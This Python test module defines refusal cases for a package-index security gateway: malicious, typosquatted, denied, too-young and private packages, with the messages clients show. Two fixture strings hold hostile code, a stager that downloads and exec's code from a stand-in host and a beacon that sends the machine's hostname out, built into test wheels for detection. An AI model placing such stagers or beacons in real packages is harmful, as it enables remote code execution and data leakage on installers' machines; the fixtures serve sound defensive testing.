"""The refusals that every client is led to, and what an index has to list for that."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from tests.advisories.records import osv
from tests.support.distributions import Built, make_wheel
from tests.support.upstream_server import Listed

POLICY = """\
[age]
minimum = "3d"
[private]
names = ["billing-demo", "ledger-demo"]
reason = "ours; see the handbook"
[[deny]]
project = "denied-demo"
reason = "use the other one"
"""
_HONEST = "x = 1\n"
_STAGE = 'import urllib.request\nexec(urllib.request.urlopen("http://c.example.invalid/a").read())\n'
_BEACON = (
    'import socket, urllib.request\nurllib.request.urlopen("http://c.example.invalid/?h=" + socket.gethostname())\n'
)


def _wheel(name: str, version: str, source: str = _HONEST) -> Built:
    return make_wheel(name, version, {f"{name.replace('-', '_')}/__init__.py": source})


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """A refusal. ``text`` is what a person must read, whichever client they use."""

    title: str
    requirement: str
    built: Built
    """What a lock file of an earlier day holds of it."""
    text: str
    about: str
    label: str = ""
    """What pip shows in its place: the versions that there are, where none is what was asked for."""
    silent: tuple[str, ...] = ()
    """Clients that say no more than that there is no such version."""
    pending: bool = False
    """Asked of a gateway that has not inspected anything yet."""

    def told(self, client: str) -> str:
        """What a person must read in this client."""
        return self.label if self.label and client.startswith("pip") else self.text


CASES = (
    Case(
        title="Every release is malicious",
        requirement="evil-demo",
        built=_wheel("evil-demo", "1.0", _STAGE),
        text="blocked: second-stage in evil_demo/__init__.py:2: code fetched from http://c.example.invalid/a",
        about="The page lists its files as they are, so that every client asks for one and is told.",
    ),
    Case(
        title="The pinned release is malicious",
        requirement="half-demo==2.0",
        built=_wheel("half-demo", "2.0", _STAGE),
        text="blocked: second-stage in half_demo/__init__.py:2: code fetched from http://c.example.invalid/a",
        about="Whoever pins it, in a requirement or a lock file, is told; whoever does not is given the older one.",
    ),
    Case(
        title="Held for a person",
        requirement="held-demo==1.0",
        built=_wheel("held-demo", "1.0", _BEACON),
        text="quarantined: beacon in held_demo/__init__.py:2: host or user name is sent to http://c.example.invalid/",
        about="A reviewer may release it; the next request is then served.",
    ),
    Case(
        title="A new project whose name could be taken for a popular one's",
        requirement="reqeusts",
        built=_wheel("reqeusts", "1.0"),
        text="quarantined: look-alike: the name reqeusts could be taken for requests (transposition)",
        about="A project that has been there for longer is given, unless the policy says otherwise.",
    ),
    Case(
        title="Known malware, by an advisory",
        requirement="known-demo==2.0",
        built=_wheel("known-demo", "2.0"),
        text="blocked: known-demo 2.0 is known malware (MAL-2026-1): summary of MAL-2026-1",
        about="A record whose id begins with `MAL-`, whatever was found in the file. Whoever pins nothing is given an "
        "older release.",
    ),
    Case(
        title="Refused by the policy",
        requirement="denied-demo==1.0",
        built=_wheel("denied-demo", "1.0"),
        text="blocked: denied-demo 1.0 is not wanted here: use the other one",
        about="The policy's own words. The upstream offers this one's metadata without a hash.",
    ),
    Case(
        title="Too young",
        requirement="young-demo==1.0",
        built=_wheel("young-demo", "1.0"),
        text="quarantined: young-demo 1.0 was published 1 day ago; releases wait 3 days, this one until",
        about="By the upstream's time of upload.",
    ),
    Case(
        title="A private name that is not published here yet",
        requirement="billing-demo",
        built=_wheel("billing-demo", "1.0"),
        text="blocked: billing-demo is a private name: ours; see the handbook; publish it here first",
        about="The upstream is never asked. pip and PDM are given a page with one entry, whose refusal says why; uv "
        "and Poetry are refused the page.",
    ),
    Case(
        title="A pinned release of a private name that is not published here yet",
        requirement="ledger-demo==1.0",
        built=_wheel("ledger-demo", "1.0"),
        text="ledger-demo is a private name: ours; see the handbook; publish it here first",
        label="from versions: 0+private.name.not.published.here",
        about="pip asks for no file then, and shows the versions that there are: the one that there is says why. "
        "PDM says only that it found none.",
        silent=("PDM",),
    ),
    Case(
        title="Put in quarantine by its own index",
        requirement="gone-demo",
        built=_wheel("gone-demo", "1.0"),
        text="blocked: gone-demo is in quarantine at its index, which offers no file of it: reported as malware",
        about="PEP 792; whatever was kept of it is refused as well.",
    ),
    Case(
        title="Not inspected yet",
        requirement="demo==1.0",
        built=_wheel("demo", "1.0"),
        text="inspection of demo-1.0-py3-none-any.whl pending, try again in 5 seconds",
        about="Only where an inspection takes longer than 90 seconds; until then the clients wait and ask again.",
        pending=True,
    ),
)


ADVISORY = osv("MAL-2026-1", project="known-demo", versions=["2.0"])
"""What is known before anybody asks."""


def listed() -> list[Listed]:
    """What the upstream lists: an old release of each case, but for two whose dates matter."""
    now = datetime.now(UTC)
    dates = {"young-demo": now - timedelta(hours=30), "reqeusts": now - timedelta(days=10, hours=1)}
    built = [
        *(case.built for case in CASES if not case.pending),
        _wheel("half-demo", "1.0"),
        _wheel("known-demo", "1.0"),
    ]
    return [
        Listed(built=one, upload_time=f"{dates[one.project]:%Y-%m-%dT%H:%M:%S.000000Z}")
        if one.project in dates
        else Listed(built=one, metadata_hash=one.project != "denied-demo")
        for one in built
    ]
